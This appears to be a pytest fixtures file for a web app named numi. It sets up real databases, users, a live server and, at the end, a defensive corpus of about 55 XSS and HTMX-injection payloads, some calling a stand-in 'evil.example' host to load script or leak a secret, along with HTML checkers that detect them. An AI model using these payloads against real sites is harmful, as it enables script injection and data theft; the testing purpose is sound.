@@ -1,0 +1,578 @@
+"""Shared fixtures: apps on real databases, clients, users, and a live `numi serve`.
+
+Fixtures (all real components, nothing of ours mocked):
+
+- `database_url`: a fresh, empty database for one test. Parametrized over the backends:
+  "sqlite" (a temp file) always; "postgres" (a private schema in the database named by
+  NUMI_TEST_DATABASE_URL, dropped afterwards) when that variable is set. Outside CI the
+  postgres case is skipped without the variable; with CI=true it fails instead.
+- `make_app(**config)`: builds `create_app(config)` on `database_url` and applies the real
+  migrations. `app` is `make_app()` (single-user mode); `client` its test client.
+- `sqlite_app` / `sqlite_client`: the same on SQLite only, for tests where the backend
+  does not matter (pages, rendering, security headers).
+- `multi_app` (NUMI_AUTH=multi on every backend) with `users` ("a" and "b": id, username,
+  password, bearer token) and `login(client, user)`; `client_a` / `client_b` are logged in.
+- `live_server`: the real `numi serve` in a subprocess on a free loopback port (module
+  scope); `live_server_factory(**env)` starts more, e.g. in multi-user mode. The object has
+  .url .port .data_dir .database_url .env .proc .restart() .kill() .cli(*args).
+"""
+
+from __future__ import annotations
+
+import os
+import re
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import time
+import urllib.error
+import urllib.request
+import uuid
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+ROOT = Path(__file__).resolve().parent.parent
+IN_CI = os.environ.get("CI", "").lower() in ("1", "true", "yes")
+POSTGRES_URL = os.environ.get("NUMI_TEST_DATABASE_URL", "")
+
+BACKENDS = [
+    pytest.param("sqlite", id="sqlite"),
+    pytest.param("postgres", id="postgres", marks=pytest.mark.postgres),
+]
+
+
+# --- databases -----------------------------------------------------------------------------
+
+
+def _clean_environment(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Keep the developer's NUMI_* and provider variables out of the app under test."""
+    for name in list(os.environ):
+        if name.startswith(("NUMI_", "PROMPT_MAX_")) or name in (
+            "OPENAI_API_KEY", "OPENAI_BASE_URL", "ANTHROPIC_API_KEY", "ANTHROPIC_BASE_URL",
+        ):
+            if name != "NUMI_TEST_DATABASE_URL":
+                monkeypatch.delenv(name)
+
+
+class PostgresSchema:
+    """A private schema in the test database: a clean, empty database for one test."""
+
+    def __init__(self, base_url: str):
+        import sqlalchemy as sa
+
+        self.name = "t_" + uuid.uuid4().hex[:16]
+        self._engine = sa.create_engine(base_url, isolation_level="AUTOCOMMIT", poolclass=sa.pool.NullPool)
+        with self._engine.connect() as conn:
+            conn.execute(sa.text(f'CREATE SCHEMA "{self.name}"'))
+        url = sa.engine.make_url(base_url)
+        # search_path makes the schema the default one: the app, Alembic and reflection
+        # all see only this test's tables.
+        self.url = url.update_query_dict({"options": f"-csearch_path={self.name}"}).render_as_string(
+            hide_password=False
+        )
+
+    def drop(self) -> None:
+        import sqlalchemy as sa
+
+        with self._engine.connect() as conn:
+            conn.execute(sa.text(f'DROP SCHEMA IF EXISTS "{self.name}" CASCADE'))
+        self._engine.dispose()
+
+
+def _database(kind: str, directory: Path):
+    """(url, cleanup) for a fresh database of `kind`."""
+    if kind == "sqlite":
+        return f"sqlite:///{directory / 'numi.db'}", lambda: None
+    if not POSTGRES_URL:
+        message = "NUMI_TEST_DATABASE_URL is not set (e.g. postgresql+psycopg://postgres@127.0.0.1:5432/test)"
+        if IN_CI:
+            pytest.fail("PostgreSQL tests must run in CI: " + message)
+        pytest.skip(message)
+    schema = PostgresSchema(POSTGRES_URL)
+    return schema.url, schema.drop
+
+
+@pytest.fixture(params=BACKENDS)
+def backend(request) -> str:
+    """The database backend of this test: "sqlite" or "postgres"."""
+    return request.param
+
+
+@pytest.fixture
+def database_url(backend, tmp_path):
+    url, cleanup = _database(backend, tmp_path)
+    yield url
+    cleanup()
+
+
+def _build_app(database_url: str, data_dir: Path, config: dict[str, Any]):
+    from numi import create_app
+    from numi.database import upgrade
+
+    base = {
+        "TESTING": True,
+        "NUMI_DATA_DIR": str(data_dir),
+        "NUMI_DATABASE_URL": database_url,
+        "NUMI_SECRET_KEY": "test-secret-key",
+        "NUMI_AUTO_ENDPOINTS": False,
+    }
+    base.update(config)
+    app = create_app(base)
+    upgrade(app)
+    return app
+
+
+@pytest.fixture
+def make_app(database_url, tmp_path, monkeypatch):
+    """Factory: `make_app(**config)` -> an app on this test's database, migrated to head."""
+    _clean_environment(monkeypatch)
+    apps = []
+
+    def factory(**config):
+        app = _build_app(database_url, tmp_path / f"data{len(apps)}", config)
+        apps.append(app)
+        return app
+
+    yield factory
+    for app in apps:
+        with app.app_context():
+            from numi.extensions import db
+
+            db.session.remove()
+            db.engine.dispose()
+
+
+@pytest.fixture
+def app(make_app):
+    """A single-user app on every backend."""
+    return make_app()
+
+
+@pytest.fixture
+def client(app):
+    return app.test_client()
+
+
+@pytest.fixture
+def sqlite_app(tmp_path, monkeypatch):
+    """A single-user app on SQLite only, for tests where the backend does not matter."""
+    _clean_environment(monkeypatch)
+    app = _build_app(f"sqlite:///{tmp_path / 'numi.db'}", tmp_path / "data", {})
+    yield app
+    with app.app_context():
+        from numi.extensions import db
+
+        db.session.remove()
+        db.engine.dispose()
+
+
+@pytest.fixture
+def sqlite_client(sqlite_app):
+    return sqlite_app.test_client()
+
+
+# --- users ---------------------------------------------------------------------------------
+
+
+@dataclass
+class TestUser:
+    __test__ = False  # not a test class
+
+    id: int
+    username: str
+    password: str
+    token: str
+    is_admin: bool = False
+
+    @property
+    def auth_header(self) -> dict[str, str]:
+        return {"Authorization": f"Bearer {self.token}"}
+
+
+def create_user(app, username: str, password: str = "correct horse battery", *, is_admin: bool = False) -> TestUser:
+    """Create a user with a password and an API token, as `numi user create` and `numi token create` do."""
+    from werkzeug.security import generate_password_hash
+
+    from numi.extensions import db
+    from numi.models import ApiToken, User
+    from numi.web.security import hash_token, new_token
+
+    with app.app_context():
+        user = User(username=username, password_hash=generate_password_hash(password), is_admin=is_admin)
+        db.session.add(user)
+        db.session.flush()
+        token = new_token()
+        db.session.add(ApiToken(user_id=user.id, name="test", token_hash=hash_token(token)))
+        db.session.commit()
+        return TestUser(user.id, username, password, token, is_admin)
+
+
+@pytest.fixture
+def multi_app(make_app):
+    """A multi-user app (NUMI_AUTH=multi) on every backend; see `users`."""
+    return make_app(NUMI_AUTH="multi")
+
+
+@pytest.fixture
+def users(multi_app) -> dict[str, TestUser]:
+    """Two ordinary users of `multi_app`: "a" (alice) and "b" (bob), each with a token."""
+    return {"a": create_user(multi_app, "alice"), "b": create_user(multi_app, "bob")}
+
+
+def do_login(client, user: TestUser, *, next_url: str | None = None):
+    """Log `client` in through the real login form; returns the response."""
+    url = "/login" + (f"?next={next_url}" if next_url is not None else "")
+    return client.post(url, data={"username": user.username, "password": user.password})
+
+
+@pytest.fixture
+def login():
+    """`login(client, user)`: log in through the login form; asserts it worked."""
+
+    def _login(client, user: TestUser, **kwargs):
+        response = do_login(client, user, **kwargs)
+        assert response.status_code == 302, response.get_data(as_text=True)
+        return response
+
+    return _login
+
+
+@pytest.fixture
+def client_a(multi_app, users, login):
+    client = multi_app.test_client()
+    login(client, users["a"])
+    return client
+
+
+@pytest.fixture
+def client_b(multi_app, users, login):
+    client = multi_app.test_client()
+    login(client, users["b"])
+    return client
+
+
+# --- live server ---------------------------------------------------------------------------
+
+
+def free_port() -> int:
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        return sock.getsockname()[1]
+
+
+def numi_command() -> list[str]:
+    """The `numi` console script of this interpreter's environment."""
+    script = Path(sys.executable).with_name("numi")
+    if script.exists():
+        return [str(script)]
+    return [sys.executable, "-c", "import sys; from numi.cli import main; sys.argv[0] = 'numi'; main()"]
+
+
+@dataclass
+class LiveServer:
+    """A real `numi serve` subprocess on 127.0.0.1."""
+
+    data_dir: Path
+    port: int
+    env: dict[str, str]
+    proc: subprocess.Popen | None = None
+    log_path: Path = field(init=False)
+
+    def __post_init__(self):
+        self.log_path = self.data_dir.parent / f"server-{self.port}.log"
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.port}"
+
+    @property
+    def database_url(self) -> str:
+        return self.env.get("NUMI_DATABASE_URL") or f"sqlite:///{self.data_dir / 'numi.db'}"
+
+    def start(self, timeout: float = 30.0) -> None:
+        log = open(self.log_path, "ab")
+        self.proc = subprocess.Popen(
+            [*numi_command(), "serve"], env=self.env, cwd=str(ROOT), stdout=log, stderr=subprocess.STDOUT
+        )
+        log.close()
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            if self.proc.poll() is not None:
+                raise RuntimeError(f"numi serve exited with {self.proc.returncode}:\n{self.log()}")
+            try:
+                with urllib.request.urlopen(self.url + "/healthz", timeout=1) as response:
+                    if response.status == 200:
+                        return
+            except (urllib.error.URLError, ConnectionError, OSError):
+                time.sleep(0.05)
+        self.stop()
+        raise RuntimeError(f"numi serve did not answer /healthz within {timeout}s:\n{self.log()}")
+
+    def stop(self) -> None:
+        if self.proc and self.proc.poll() is None:
+            self.proc.send_signal(signal.SIGTERM)
+            try:
+                self.proc.wait(10)
+            except subprocess.TimeoutExpired:
+                self.proc.kill()
+                self.proc.wait(10)
+
+    def kill(self) -> None:
+        """SIGKILL: a crash, no clean shutdown."""
+        if self.proc and self.proc.poll() is None:
+            self.proc.kill()
+            self.proc.wait(10)
+
+    def restart(self) -> None:
+        self.stop()
+        self.start()
+
+    def cli(self, *args: str, input: str | None = None, check: bool = True) -> subprocess.CompletedProcess:
+        """Run `numi ARGS` against this server's data directory and database."""
+        result = subprocess.run(
+            [*numi_command(), *args], env=self.env, cwd=str(ROOT), input=input,
+            capture_output=True, text=True, timeout=60,
+        )
+        if check and result.returncode != 0:
+            raise AssertionError(f"numi {' '.join(args)} failed ({result.returncode}):\n{result.stdout}\n{result.stderr}")
+        return result
+
+    def log(self) -> str:
+        try:
+            return self.log_path.read_text(errors="replace")[-5000:]
+        except FileNotFoundError:
+            return ""
+
+
+def server_environment(data_dir: Path, port: int, **env: str) -> dict[str, str]:
+    base = {
+        key: value for key, value in os.environ.items()
+        if not key.startswith(("NUMI_", "PROMPT_MAX_", "OPENAI_", "ANTHROPIC_"))
+    }
+    base.update(
+        NUMI_DATA_DIR=str(data_dir),
+        NUMI_HOST="127.0.0.1",
+        NUMI_PORT=str(port),
+        NUMI_AUTO_ENDPOINTS="0",
+        NUMI_LOG_LEVEL="WARNING",
+        PYTHONUNBUFFERED="1",
+    )
+    base.update({k: str(v) for k, v in env.items()})
+    return base
+
+
+@pytest.fixture(scope="session")
+def live_server_factory(tmp_path_factory):
+    """`live_server_factory(**env)` -> a started LiveServer with extra environment."""
+    servers: list[LiveServer] = []
+
+    def start(**env) -> LiveServer:
+        port = free_port()
+        data_dir = tmp_path_factory.mktemp("live") / "data"
+        server = LiveServer(data_dir, port, server_environment(data_dir, port, **env))
+        servers.append(server)
+        server.start()
+        return server
+
+    yield start
+    for server in servers:
+        server.stop()
+
+
+@pytest.fixture(scope="module")
+def live_server(live_server_factory):
+    """A single-user `numi serve` on SQLite, shared by the tests of one module."""
+    server = live_server_factory()
+    yield server
+    server.stop()
+
+
+# --- small helpers shared by many tests ----------------------------------------------------
+
+
+def origin_of(url: str) -> str:
+    return re.match(r"^[a-z]+://[^/]+", url).group(0)
+
+
+def chromium_path() -> str | None:
+    return shutil.which("chromium") or (
+        "/usr/bin/chromium" if os.path.exists("/usr/bin/chromium") else None
+    )
+
+
+# --- hostile input -------------------------------------------------------------------------
+
+# Inputs an attacker (or a model talked into it) may put in a message, a title, an endpoint
+# or model name, or a file name. Each must come out as inert text or safe markup.
+HOSTILE_INPUTS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" onerror="alert(1)"',  # unclosed
+    "<svg onload=alert(1)><circle r=1></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
+    '<embed src="javascript:alert(1)">',
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](java&#09;script:alert(1))",
+    "[click](&#106;avascript:alert(1))",
+    "[click](  javascript:alert(1)  )",
+    "[click](<javascript:alert(1)>)",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[click](vbscript:msgbox(1))",
+    "[ref][1]\n\n[1]: javascript:alert(1)",
+    "![img](javascript:alert(1))",
+    '![x](https://evil.example/leak?q=secret "t\\" onerror=\\"alert(1)")',
+    "<javascript:alert(1)>",
+    '<https://evil.example/"onmouseover="alert(1)>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href=" jav&#x09;ascript:alert(1)">x</a>',
+    '<a href="mailto:x@example.org" onclick="alert(1)">mail</a>',
+    '<div hx-get="/api/sessions" hx-trigger="load" hx-swap-oob="true">x</div>',
+    '<div data-hx-post="/chats" data-hx-trigger="load">x</div>',
+    '<div hx-ext="ws" ws-connect="/ws/x" ws-send>x</div>',
+    '<div id="chat-list" hx-swap-oob="innerHTML">pwned</div>',
+    '<button hx-post="/chats" hx-trigger="load">x</button>',
+    "<style>body{display:none}</style>",
+    '<p style="background:url(javascript:alert(1))">x</p>',
+    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<base href="https://evil.example/">',
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
+    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video>",
+    "<input autofocus onfocus=alert(1)>",
+    '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
+    "```<img src=x onerror=alert(1)>\ncode\n```",
+    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
+    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
+    "report<script>alert(1)</script>.pdf",
+]
+assert len(HOSTILE_INPUTS) >= 30
+
+VOID_ELEMENTS = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
+DANGEROUS_ELEMENTS = {
+    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style",
+    "form", "button", "input", "textarea", "select", "meta", "base", "link", "img", "video",
+    "audio", "source", "template", "noscript", "details",
+}
+SAFE_SCHEMES = ("http:", "https:", "mailto:")
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "background", "poster", "xlink:href", "srcset"}
+
+
+def _attribute_problem(tag: str, name: str, value: str | None) -> str | None:
+    name = name.lower()
+    if name.startswith(("on", "hx-", "data-hx-", "ws-")) or name in ("style", "id", "hx-swap-oob"):
+        return f"<{tag} {name}>"
+    if name in URL_ATTRIBUTES and value is not None:
+        # As browsers parse URLs (WHATWG): leading/trailing controls and spaces are trimmed,
+        # tabs and newlines removed anywhere; then a scheme is letters, digits, + - . and ':'.
+        url = re.sub(r"[\t\n\r]", "", value.strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f"
+                                                  "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f \t\n\r")).lower()
+        scheme = re.match(r"^([a-z][a-z0-9+.-]*):", url)
+        if scheme and scheme.group(0) not in SAFE_SCHEMES:
+            return f"<{tag} {name}={value!r}>"
+    return None
+
+
+def html_problems(html: str) -> list[str]:
+    """Executable or HTMX-active things in a fragment made from untrusted input."""
+    from html.parser import HTMLParser
+
+    problems: list[str] = []
+
+    class Checker(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            if tag in DANGEROUS_ELEMENTS:
+                problems.append(f"<{tag}>")
+            for name, value in attrs:
+                problem = _attribute_problem(tag, name, value)
+                if problem:
+                    problems.append(problem)
+
+        handle_startendtag = handle_starttag
+
+    checker = Checker(convert_charrefs=True)
+    checker.feed(html)
+    checker.close()
+    return problems
+
+
+def page_outline(html: str) -> tuple[list, list[str]]:
+    """Split a page into (its element structure outside hx-disable containers, the HTML
+    problems inside them). Two renders of one template with different untrusted text must
+    have the same outline: untrusted text may never add an element or an attribute."""
+    from html.parser import HTMLParser
+
+    outline: list = []
+    inside_problems: list[str] = []
+
+    class Outliner(HTMLParser):
+        def __init__(self):
+            super().__init__(convert_charrefs=True)
+            self.stack: list[tuple[str, bool]] = []  # (tag, inside an hx-disable container)
+
+        def _inside(self) -> bool:
+            return bool(self.stack) and self.stack[-1][1]
+
+        def handle_starttag(self, tag, attrs):
+            inside = self._inside()
+            if inside:
+                if tag in DANGEROUS_ELEMENTS:
+                    inside_problems.append(f"<{tag}>")
+                for name, value in attrs:
+                    problem = _attribute_problem(tag, name, value)
+                    if problem:
+                        inside_problems.append(problem)
+            else:
+                outline.append((tag, tuple(sorted(name for name, _ in attrs))))
+            if tag not in VOID_ELEMENTS:
+                disabled = inside or any(name == "hx-disable" for name, _ in attrs)
+                self.stack.append((tag, disabled))
+
+        def handle_startendtag(self, tag, attrs):
+            self.handle_starttag(tag, attrs)
+            if tag not in VOID_ELEMENTS and self.stack and self.stack[-1][0] == tag:
+                self.stack.pop()
+
+        def handle_endtag(self, tag):
+            for index in range(len(self.stack) - 1, -1, -1):
+                if self.stack[index][0] == tag:
+                    del self.stack[index:]
+                    return
+
+    parser = Outliner()
+    parser.feed(html)
+    parser.close()
+    return outline, inside_problems
+
+
+@pytest.fixture(params=range(len(HOSTILE_INPUTS)), ids=lambda i: f"hostile{i:02d}")
+def hostile(request) -> str:
+    """One hostile input of the corpus (the test runs once per input)."""
+    return HOSTILE_INPUTS[request.param]
+
+
+@pytest.fixture(scope="session")
+def xss():
+    """The hostile-input corpus and the HTML checks, for tests in any directory:
+    `xss.inputs`, `xss.html_problems(html)`, `xss.page_outline(html)`."""
+    from types import SimpleNamespace
+
+    return SimpleNamespace(inputs=HOSTILE_INPUTS, html_problems=html_problems, page_outline=page_outline)
